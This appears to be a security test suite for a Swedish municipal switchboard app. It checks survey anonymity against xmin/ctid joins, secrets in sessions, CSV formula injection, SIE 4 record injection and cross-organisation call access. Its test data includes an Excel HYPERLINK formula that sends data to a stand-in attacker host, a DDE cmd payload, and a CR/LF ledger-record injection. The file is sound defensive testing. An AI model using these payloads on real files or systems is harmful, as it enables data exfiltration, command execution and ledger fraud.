/**
 * Leaks (issue 11, points 7–10 and 15): what someone inside the city — a contact, a
 * coordinator, whoever can read the database or its backups — could learn or plant.
 *
 * - survey answers traced to the people who gave them (xmin, ctid, ids, timestamps,
 *   live results);
 * - secrets (passwords, API keys) in the sessions table;
 * - formulas in CSV files that Excel runs when a colleague opens them;
 * - records injected into the SIE 4 file the controller loads into the ledger;
 * - another organisation's calls attached to a deviation, or their existence confirmed.
 */
import { deleteAuditEntries } from '#tests/helpers/audit_cleanup'
import { test } from '@japa/runner'
import testUtils from '@adonisjs/core/services/test_utils'
import db from '@adonisjs/lucid/services/db'
import iconv from 'iconv-lite'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { ApiClient } from '@japa/api-client'
import { TEST_PASSWORD, UserFactory, createContact } from '#database/factories/user_factory'
import { usingDatabaseSessions } from '#tests/helpers/database_sessions'
import { OrganisationFactory } from '#database/factories/organisation_factory'
import type User from '#models/user'
import { runAllocation, setPeriodApproval } from '#actions/month_end/run_allocation'
import { issueInvoices } from '#actions/month_end/issue_invoices'
import { importOrganisations } from '#actions/organisations/import_organisations'
import { inDefaultLanguage } from '#services/messages'

/* ------------------------------------------------------------------------------------ */
/* Survey answers                                                                        */
/* ------------------------------------------------------------------------------------ */

/** Everything the survey flow created, deleted again: these tests need real commits. */
const created = { users: [] as number[], organisations: [] as number[] }

async function contactForSurvey() {
  const { user, organisation } = await createContact()
  created.users.push(user.id)
  created.organisations.push(organisation.id)
  return user
}

async function openSurvey(client: ApiClient, coordinator: User) {
  const questions = 'Hur nöjd är du med samordningen?\nHur nöjd är du med nätverksträffarna?'
  const form = { title: 'Anonymitetsprov', year: '2026', questions }
  const response = await client
    .post('/enkater')
    .loginAs(coordinator)
    .withCsrfToken()
    .form(form)
    .redirects(0)
  const id = Number(response.header('location')!.split('/')[2])
  await client
    .post(`/enkater/${id}/status`)
    .loginAs(coordinator)
    .withCsrfToken()
    .form({ status: 'oppen' })
    .redirects(0)
  const questionIds = (
    await db.from('survey_questions').where('survey_id', id).orderBy('position')
  ).map((q) => Number(q.id))
  return { id, questionIds }
}

function answer(
  client: ApiClient,
  user: User,
  surveyId: number,
  questionIds: number[],
  scores: number[],
  freeText: string
) {
  const form: Record<string, string> = { freeText }
  questionIds.forEach(
    (questionId, index) => (form[`scores[q${questionId}]`] = String(scores[index]))
  )
  return client
    .post(`/enkater/${surveyId}/svar`)
    .loginAs(user)
    .withCsrfToken()
    .form(form)
    .redirects(0)
}

/** Every table that holds what was answered (not the survey, its questions or who took part). */
async function answerTables() {
  const { rows } = await db.rawQuery(
    `SELECT table_name FROM information_schema.tables
      WHERE table_schema = current_schema() AND table_name LIKE 'survey%'
        AND table_name NOT IN ('surveys', 'survey_questions', 'survey_participants')`
  )
  return rows.map((row: { table_name: string }) => row.table_name) as string[]
}

/** The participants of a survey in the order the attack uses: by xmin, or by place on disk. */
async function participantsBy(surveyId: number, order: 'xmin' | 'ctid') {
  const sort = order === 'xmin' ? 'xmin::text::bigint, ctid' : 'ctid'
  const { rows } = await db.rawQuery(
    `SELECT user_id FROM survey_participants WHERE survey_id = ? ORDER BY ${sort}`,
    [surveyId]
  )
  return rows.map((row: { user_id: number }) => Number(row.user_id)) as number[]
}

/** The free texts of a survey, from whichever table holds them, in the attack's order. */
async function freeTextsBy(table: string, surveyId: number, order: string) {
  const { rows } = await db.rawQuery(
    `SELECT free_text FROM ${table} WHERE survey_id = ? AND free_text IS NOT NULL ORDER BY ${order}`,
    [surveyId]
  )
  return rows.map((row: { free_text: string }) => row.free_text) as string[]
}

async function columnsOf(table: string) {
  const { rows } = await db.rawQuery(
    'SELECT column_name, data_type, column_default FROM information_schema.columns WHERE table_name = ?',
    [table]
  )
  return rows as { column_name: string; data_type: string; column_default: string | null }[]
}

test.group('Hostile / survey answers cannot be traced to the people who gave them', (group) => {
  group.each.teardown(async () => {
    await deleteAuditEntries((q) => q.whereIn('user_id', created.users))
    await db.from('surveys').whereIn('created_by', created.users).delete()
    await db.from('users').whereIn('id', created.users).delete()
    await db.from('organisations').whereIn('id', created.organisations).delete()
    created.users = []
    created.organisations = []
  })

  test('while the survey is open, nothing an SQL reader can join to a contact by xmin reads as an answer', async ({
    client,
    assert,
  }) => {
    const coordinator = await UserFactory.create()
    created.users.push(coordinator.id)
    const { id, questionIds } = await openSurvey(client, coordinator)
    const texts = [
      'Telefonisterna är vänliga',
      'Rutinerna är svåra att hitta',
      'Träffarna är för sällan',
    ]
    for (const [index, text] of texts.entries()) {
      await answer(client, await contactForSurvey(), id, questionIds, [index + 1, 5 - index], text)
    }
    assert.lengthOf(await db.from('survey_participants').where('survey_id', id), 3)

    for (const table of await answerTables()) {
      const { rows } = await db.rawQuery(
        `SELECT row_to_json(a)::text AS row FROM ${table} a JOIN survey_participants p ON p.xmin = a.xmin WHERE p.survey_id = ?`,
        [id]
      )
      for (const { row } of rows as { row: string }[]) {
        for (const text of texts)
          assert.notInclude(
            row,
            text,
            `${table} holds a free text in the participant's transaction`
          )
        assert.notMatch(
          row,
          /"score"\s*:/,
          `${table} holds a score in the participant's transaction`
        )
      }
    }
  })

  test('after the survey closes, no join on xmin, ctid, ids or timestamps pairs a contact with their answer', async ({
    client,
    assert,
  }) => {
    const coordinator = await UserFactory.create()
    created.users.push(coordinator.id)
    const { id, questionIds } = await openSurvey(client, coordinator)
    // Five contacts answer one after another. Their texts are chosen so that no order but
    // the answering order pairs anyone with their own text: alphabetically each text sits
    // one place from where its writer answered.
    const texts = [
      'B: kopplingen fungerar',
      'C: väntetiden är lång',
      'D: bra bemötande',
      'E: svårt att hitta rutinerna',
      'A: fler träffar',
    ]
    const authors: number[] = []
    for (const [index, text] of texts.entries()) {
      const user = await contactForSurvey()
      authors.push(user.id)
      await answer(client, user, id, questionIds, [1 + index, 5 - index], text)
    }
    await client
      .post(`/enkater/${id}/status`)
      .loginAs(coordinator)
      .withCsrfToken()
      .form({ status: 'stangd' })
      .redirects(0)
    const page = await client.get(`/enkater/${id}`).loginAs(coordinator)
    for (const text of texts) assert.include(page.text(), text)
    const truth = new Map(authors.map((userId, index) => [userId, texts[index]]))

    const tables = await answerTables()
    const participantTransactions = (
      await db.rawQuery(
        'SELECT DISTINCT xmin::text AS x FROM survey_participants WHERE survey_id = ?',
        [id]
      )
    ).rows
    for (const table of tables) {
      // xmin: a row written in a participant's own transaction
      const { rows } = await db.rawQuery(
        `SELECT count(*)::int AS n FROM ${table} WHERE xmin::text = ANY(?)`,
        [participantTransactions.map((row: { x: string }) => row.x)]
      )
      assert.equal(rows[0].n, 0, `${table} shares a transaction with a participant`)
      const columns = await columnsOf(table)
      // ids and timestamps: nothing that names a user, counts up, or tells when
      for (const column of columns) {
        assert.notMatch(
          column.column_name,
          /user|participant|author/,
          `${table}.${column.column_name}`
        )
        assert.notInclude(
          column.column_default ?? '',
          'nextval',
          `${table}.${column.column_name} counts up in answering order`
        )
        assert.notMatch(
          column.data_type,
          /timestamp|date|time/,
          `${table}.${column.column_name} tells when`
        )
      }
      if (!columns.some((column) => column.column_name === 'free_text')) continue
      // xmin order and heap order (ctid), and any id column: pair the n-th participant with the n-th text
      const orders: [string, 'xmin' | 'ctid'][] = [
        ['xmin::text::bigint, ctid', 'xmin'],
        ['ctid', 'ctid'],
        ...columns
          .filter((column) => column.column_name === 'id')
          .map((): [string, 'ctid'] => ['id', 'ctid']),
      ]
      for (const [textOrder, participantOrder] of orders) {
        const participants = await participantsBy(id, participantOrder)
        const paired = await freeTextsBy(table, id, textOrder)
        const recovered = participants.filter(
          (userId, index) => paired[index] === truth.get(userId)
        )
        assert.lengthOf(
          recovered,
          0,
          `ordering ${table} by ${textOrder} pairs contacts with their own answers`
        )
      }
    }
  })

  test('results show only once the survey has closed, and only from five answers', async ({
    client,
    assert,
  }) => {
    const coordinator = await UserFactory.create()
    created.users.push(coordinator.id)
    const few = await openSurvey(client, coordinator)
    for (let index = 0; index < 4; index++)
      await answer(client, await contactForSurvey(), few.id, few.questionIds, [4, 5], '')
    const many = await openSurvey(client, coordinator)
    for (let index = 0; index < 5; index++)
      await answer(client, await contactForSurvey(), many.id, many.questionIds, [3, 5], '')

    // open: not even the coordinator sees figures, so a before/after look shows nothing
    assert.notInclude(
      (await client.get(`/enkater/${many.id}`).loginAs(coordinator)).text(),
      'Andel nöjda'
    )
    for (const survey of [few, many]) {
      await client
        .post(`/enkater/${survey.id}/status`)
        .loginAs(coordinator)
        .withCsrfToken()
        .form({ status: 'stangd' })
        .redirects(0)
    }
    const fewPage = (await client.get(`/enkater/${few.id}`).loginAs(coordinator)).text()
    assert.notInclude(fewPage, 'Andel nöjda')
    assert.include(fewPage, 'Resultatet visas bara när minst 5 har svarat')
    assert.include(
      (await client.get(`/enkater/${many.id}`).loginAs(coordinator)).text(),
      'Andel nöjda (4–5) totalt: 50,0'
    )

    // a closed survey stays closed: reopening it would let a later answer be read off a before/after comparison
    const reopen = await client
      .post(`/enkater/${many.id}/status`)
      .loginAs(coordinator)
      .withCsrfToken()
      .form({ status: 'oppen' })
      .redirects(0)
    reopen.assertFlashMessage('error', 'En stängd enkät kan inte öppnas igen.')
    assert.equal((await db.from('surveys').where('id', many.id).firstOrFail()).status, 'stangd')
  })
})

/* ------------------------------------------------------------------------------------ */
/* Secrets in the session store                                                          */
/* ------------------------------------------------------------------------------------ */

/** A browser of its own (cookies, CSRF token) against the test server, for the real session store. */
function browser() {
  const base = `http://${process.env.HOST}:${process.env.PORT}`
  const cookies = new Map<string, string>()
  let csrf = ''
  async function send(method: string, path: string, form?: Record<string, string>) {
    const response = await fetch(base + path, {
      method,
      redirect: 'manual',
      headers: {
        cookie: [...cookies].map(([name, value]) => `${name}=${value}`).join('; '),
        accept: 'text/html',
        ...(form ? { 'content-type': 'application/x-www-form-urlencoded' } : {}),
      },
      body: form ? new URLSearchParams({ ...form, _csrf: csrf }).toString() : undefined,
    })
    for (const header of response.headers.getSetCookie()) {
      const [pair] = header.split(';')
      const index = pair.indexOf('=')
      cookies.set(pair.slice(0, index), pair.slice(index + 1))
    }
    const text = await response.text()
    csrf = /name=['"]_csrf['"] value=['"]([^'"]+)['"]/.exec(text)?.[1] ?? csrf
    return { status: response.status, location: response.headers.get('location'), text }
  }
  return {
    get: (path: string) => send('GET', path),
    post: (path: string, form: Record<string, string>) => send('POST', path, form),
    async logIn(user: User) {
      await send('GET', '/logga-in')
      const response = await send('POST', '/logga-in', {
        email: user.email,
        password: TEST_PASSWORD,
      })
      if (response.location !== '/oversikt')
        throw new Error(`login failed: ${response.status} ${response.location}`)
    },
  }
}

/** Every way a stored session could be read without the key: as it is, and each dot-separated part base64-decoded. */
function readableForms(data: string) {
  const parts = data.split(/[.:]/)
  return [
    data,
    ...parts.map((part) =>
      Buffer.from(part.replace(/-/g, '+').replace(/_/g, '/'), 'base64').toString('utf8')
    ),
  ]
}

test.group('Hostile / no secret is kept in the session store', (group) => {
  group.each.setup(() => testUtils.db().wrapInGlobalTransaction())

  test('after a failed password change and a created API key the sessions table holds neither secret nor readable JSON', async ({
    assert,
    cleanup,
  }) => {
    cleanup(await usingDatabaseSessions())
    const user = await UserFactory.create()
    const integration = await UserFactory.apply('controller').create()
    const visitor = browser()
    await visitor.logIn(user)

    await visitor.get('/konto/losenord')
    const wrongCurrent = 'fel-nuvarande-hemlis-1'
    const refused = await visitor.post('/konto/losenord?_method=PUT', {
      currentPassword: wrongCurrent,
      newPassword: 'nytt-hemligt-losen-22',
      newPassword_confirmation: 'nytt-hemligt-losen-22',
    })
    assert.equal(refused.status, 302)
    assert.include((await visitor.get('/konto/losenord')).text, 'Nuvarande lösenord stämmer inte')

    await visitor.get(`/administration/anvandare/${integration.id}/redigera`)
    const keyPage = await visitor.post(`/administration/anvandare/${integration.id}/api-nycklar`, {
      name: 'Agresso-import',
    })
    const key =
      /vxn_[A-Za-z0-9_.-]+/.exec(keyPage.text)?.[0] ??
      (await visitor.get(keyPage.location ?? '/')).text.match(/vxn_[A-Za-z0-9_.-]+/)?.[0]
    assert.isString(key, 'the new key is shown once')

    const sessions = await db.from('sessions').select('data')
    assert.isAbove(sessions.length, 0)
    for (const { data } of sessions) {
      for (const form of readableForms(String(data))) {
        for (const secret of [wrongCurrent, 'nytt-hemligt-losen-22', key!])
          assert.notInclude(form, secret)
        assert.notMatch(form, /[{,]"[A-Za-z_]+":/, 'a session is readable JSON')
      }
    }
  })

  test('a refused password form flashes back no password field, also when the CSRF token is missing', async ({
    client,
    assert,
  }) => {
    const user = await UserFactory.create()
    const form = {
      currentPassword: 'fel-nuvarande-hemlis-1',
      newPassword: 'nytt-hemligt-losen-22',
      newPassword_confirmation: 'nytt-hemligt-losen-22',
    }
    const refused = await client
      .put('/konto/losenord')
      .loginAs(user)
      .withCsrfToken()
      .form(form)
      .redirects(0)
    const withoutToken = await client.put('/konto/losenord').loginAs(user).form(form).redirects(0)
    for (const response of [refused, withoutToken]) {
      const flashed = JSON.stringify(response.flashMessages())
      for (const secret of Object.values(form)) assert.notInclude(flashed, secret)
    }
    refused.assertFlashMessage('inputErrorsBag', {
      currentPassword: ['Nuvarande lösenord stämmer inte'],
    })
  })
})

/* ------------------------------------------------------------------------------------ */
/* CSV formula injection                                                                 */
/* ------------------------------------------------------------------------------------ */

async function csvFile(lines: string[]) {
  const dir = await mkdtemp(join(tmpdir(), 'leaks-'))
  const path = join(dir, 'fil.csv')
  await writeFile(path, lines.join('\r\n') + '\r\n')
  return { path, cleanup: () => rm(dir, { recursive: true, force: true }) }
}

/** The cells of a `;`-separated line with RFC 4180 quotes, as a spreadsheet reads them. */
function cells(line: string) {
  const result: string[] = []
  let cell = ''
  let quoted = false
  for (let index = 0; index < line.length; index++) {
    const char = line[index]
    if (quoted && char === '"' && line[index + 1] === '"') {
      cell += '"'
      index++
    } else if (char === '"') {
      quoted = !quoted
    } else if (char === ';' && !quoted) {
      result.push(cell)
      cell = ''
    } else {
      cell += char
    }
  }
  return [...result, cell]
}

/** A cell a spreadsheet would evaluate as a formula (OWASP CSV injection). */
/**
 * A cell a spreadsheet evaluates: anything starting with = + - @ or a control character,
 * except a plain number and the one formula we write on purpose — `="0850…"`, a constant
 * text of digits, spaces and dashes that keeps Excel from dropping a leading zero.
 */
const isFormula = (cell: string) =>
  /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(,\d+)?$/.test(cell) && !/^="[0-9][0-9 -]*"$/.test(cell)

test.group('Hostile / CSV exports never hand Excel a formula', (group) => {
  group.each.setup(() => testUtils.db().wrapInGlobalTransaction())

  test("an extension named as a formula reaches a contact's CSV as text", async ({
    client,
    assert,
  }) => {
    const { user, organisation } = await createContact()
    const name = '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka")'
    await db.table('extensions').insert({
      number: '0850899001',
      organisation_id: organisation.id,
      valid_from: '2025-01-01',
      name,
      type: '@SUM(1+1)',
    })
    const csv = (await client.get('/anknytningar/export?per=2026-10-01').loginAs(user)).text()
    // the number is written "=""0850899001""" so that Excel keeps its leading zero
    const row = csv.split('\r\n').find((line) => line.startsWith('"=""0850899001"""'))!
    const [, , storedName, type] = cells(row)
    assert.equal(storedName, `'${name}`)
    assert.equal(type, "'@SUM(1+1)")
    assert.isFalse(csv.split('\r\n').flatMap(cells).some(isFormula))
  })

  test('rejected rows echoed back from a supplier file are text, not formulas', async ({
    client,
    assert,
  }) => {
    const coordinator = await UserFactory.create()
    // as the call import keeps a partial file's rejected lines (it commits on a connection of its own)
    const [record] = await db
      .table('imports')
      .insert({
        type: 'calls',
        file_name: 'samtal.csv',
        checksum: 'x',
        idempotency_key: 'x',
        status: 'partial',
        rejected_count: 1,
      })
      .returning('id')
    const raw = `=cmd|' /C calc'!A0;2026-10-05 09:00:00;0850811000;-1;0;Besvarat;;0`
    const errors = [
      { line: 2, column: 'Väntetid', message: 'rad 2: Väntetid "-1" är inget heltal ≥ 0' },
    ]
    await db
      .table('import_rejected_rows')
      .insert({ import_id: record.id, line: 2, raw, errors: JSON.stringify(errors) })
    const csv = (
      await client.get(`/administration/importer/${record.id}/avvisade`).loginAs(coordinator)
    ).text()
    const all = csv.split('\r\n').flatMap(cells)
    assert.include(all, `'${raw}`)
    assert.isFalse(all.some(isFormula))
  })
})

/* ------------------------------------------------------------------------------------ */
/* Record injection into SIE 4 and the journal                                           */
/* ------------------------------------------------------------------------------------ */

const PAYLOAD = 'X\r\n#TRANS 1930 {} 999999'

/**
 * A minimal SIE 4 reader written for this test (not the exporter's code): records are
 * lines; fields are separated by spaces; a field in quotes may hold `\"` and `\\`.
 */
function readSie(bytes: Buffer) {
  const text = iconv.decode(bytes, 'cp437')
  const records = text.split(/\r\n|\r|\n/).filter((line) => line.trim() !== '')
  return records.map((line) => {
    const fields: string[] = []
    let index = 0
    while (index < line.length) {
      const char = line[index]
      if (char === ' ' || char === '\t') {
        index++
      } else if (char === '"') {
        let value = ''
        index++
        while (index < line.length && line[index] !== '"') {
          if (line[index] === '\\' && index + 1 < line.length) index++
          value += line[index++]
        }
        if (line[index] !== '"') throw new Error(`unterminated string: ${line}`)
        index++
        fields.push(value)
      } else if (char === '{' || char === '}') {
        fields.push(char)
        index++
      } else {
        let value = ''
        while (index < line.length && !' \t"{}'.includes(line[index])) value += line[index++]
        fields.push(value)
      }
    }
    return fields
  })
}

test.group('Hostile / no record injection into SIE 4 or the journal', (group) => {
  group.each.setup(() => testUtils.db().wrapInGlobalTransaction())

  test('a cost centre with CR/LF is refused by the organisation form and the register import', async ({
    client,
    assert,
  }) => {
    const coordinator = await UserFactory.create()
    const response = await client
      .post('/organisationer')
      .loginAs(coordinator)
      .withCsrfToken()
      .header('referer', '/organisationer/ny')
      .form({
        code: 'INJEKT',
        name: 'Injektionsförvaltningen',
        kind: 'forvaltning',
        costCentre: PAYLOAD,
        invoiceReference: 'Ref\tX',
        activeFrom: '2009-01-01',
      })
      .redirects(0)
    const errors = (response.flashMessages().inputErrorsBag ?? {}) as Record<string, string[]>
    assert.deepEqual(errors.costCentre, [
      'Ansvar får inte innehålla radbrytningar, tabbar eller andra kontrolltecken',
    ])
    assert.deepEqual(errors.invoiceReference, [
      'Fakturareferens får inte innehålla radbrytningar, tabbar eller andra kontrolltecken',
    ])

    const file = await csvFile([
      'Kod;Namn;Typ;Ansvar;Fakturareferens;Aktiv från;Aktiv till',
      `INJEKT;Injektion;förvaltning;"${PAYLOAD}";Ref;2009-01-01;`,
    ])
    try {
      const result = await importOrganisations({
        filePath: file.path,
        fileName: 'fil.csv',
        userId: null,
      })
      assert.equal(result.status, 'rejected')
      assert.match(
        result.errors.map((error) => error.message).join(' '),
        /rad \d+: Ansvar [\s\S]* innehåller radbrytningar, tabbar eller andra kontrolltecken/
      )
    } finally {
      await file.cleanup()
    }
    assert.notExists(await db.from('organisations').where('code', 'INJEKT').first())
  })

  test('a settings value with a line break is refused', async ({ client, assert }) => {
    const coordinator = await UserFactory.create()
    const before = await db.from('settings').where('key', 'issuer_name').firstOrFail()
    await client
      .put('/administration/installningar')
      .loginAs(coordinator)
      .withCsrfToken()
      .form({ 'values[issuer_name]': `Växeln\r\n#TRANS 1930 {} 1` })
      .redirects(0)
    assert.equal(
      (await db.from('settings').where('key', 'issuer_name').firstOrFail()).value,
      before.value
    )
  })

  test('a cost centre stored before the rule never adds a #TRANS line to the SIE file', async ({
    assert,
  }) => {
    const { journalRows, sieFile } = await import('#actions/month_end/finance_export')
    // as if written before validation refused it, or straight into the database
    const hostile = await OrganisationFactory.merge({
      code: 'INJEKT',
      costCentre: PAYLOAD,
    }).create()
    const quoted = await OrganisationFactory.merge({
      code: 'CITAT',
      costCentre: 'Ansvar "7" \\',
    }).create()
    await db.from('settings').where('key', 'issuer_name').update({ value: 'Växeln "Nord" \\ C:\\' })
    await db.table('extensions').multiInsert([
      { number: '0850870001', organisation_id: hostile.id, valid_from: '2025-01-01' },
      { number: '0850870002', organisation_id: quoted.id, valid_from: '2025-01-01' },
    ])
    await db.table('supplier_invoices').insert({
      invoice_number: 'LF-INJ',
      invoice_date: '2026-11-05',
      period: '2026-10',
      net_ore: 1000_00,
      content_hash: 'x',
    })
    await db.table('headcounts').multiInsert([
      { organisation_id: hostile.id, month: '2025-10', employees: 10 },
      { organisation_id: quoted.id, month: '2025-10', employees: 10 },
    ])
    const allocation = await runAllocation('2026-10', null)
    assert.isTrue(allocation.ok, JSON.stringify(allocation))
    await setPeriodApproval('2026-10', true, null)
    await issueInvoices('2026-10', null)
    const result = await journalRows('2026-10')
    if (!result.ok) throw new Error(inDefaultLanguage(result.error))

    const records = readSie(await sieFile('2026-10', result.rows))
    const labels = records.map((fields) => fields[0])
    assert.isTrue(
      labels.every((label) => label.startsWith('#') || label === '{' || label === '}'),
      labels.join(' ')
    )
    const transactions = records.filter((fields) => fields[0] === '#TRANS')
    assert.lengthOf(transactions, result.rows.length)
    assert.notInclude(
      transactions.map((fields) => fields[1]),
      '1930'
    )
    const costCentres = transactions.map((fields) => fields[4])
    assert.include(costCentres, 'X  #TRANS 1930 {} 999999')
    assert.include(costCentres, 'Ansvar "7" \\')
    assert.deepEqual(
      records.find((fields) => fields[0] === '#FNAMN'),
      ['#FNAMN', 'Växeln "Nord" \\ C:\\']
    )
  })
})

/* ------------------------------------------------------------------------------------ */
/* Deviations                                                                            */
/* ------------------------------------------------------------------------------------ */

async function callRecord(callId: string, organisationId: number | null, outcome = 'kopplat') {
  await db.table('call_records').insert({
    call_id: callId,
    started_at: new Date('2026-10-05T07:10:00Z'),
    entry_number: '0850811000',
    wait_seconds: 20,
    talk_seconds: 60,
    outcome,
    extension: organisationId ? '0850811111' : null,
    cost: '0.5000',
    organisation_id: organisationId,
    import_id: 1,
  })
}

test.group(
  "Hostile / a deviation attaches only a call transferred to the reporter's organisation",
  (group) => {
    group.each.setup(() => testUtils.db().wrapInGlobalTransaction())

    test("another organisation's call is refused exactly like one that does not exist", async ({
      client,
      assert,
    }) => {
      const { user, organisation } = await createContact()
      const other = await createContact()
      await callRecord('EGET-1', organisation.id)
      await callRecord('ANNANS-1', other.organisation.id)
      await callRecord('OKOPPLAT-1', null, 'avbrutet')
      const report = (callId: string) =>
        client
          .post('/avvikelser')
          .loginAs(user)
          .withCsrfToken()
          .form({
            occurredAt: '2026-10-05T09:12',
            type: 'felkopplat',
            callId,
            description: 'Samtalet kopplades fel.',
          })
          .redirects(0)

      const refusals = []
      for (const callId of ['ANNANS-1', 'FINNS-INTE', 'OKOPPLAT-1'])
        refusals.push(await report(callId))
      for (const refusal of refusals) {
        assert.equal(refusal.status(), refusals[1].status())
        assert.deepEqual(refusal.flashMessages().inputErrorsBag, {
          callId: ['Samtals-ID finns inte bland samtalen som kopplats till er organisation'],
        })
      }
      assert.lengthOf(await db.from('deviations'), 0)

      const accepted = await report('EGET-1')
      assert.match(accepted.header('location') ?? '', /^\/avvikelser\/\d+$/)
      assert.equal((await db.from('deviations').firstOrFail()).call_id, 'EGET-1')
    })
  }
)
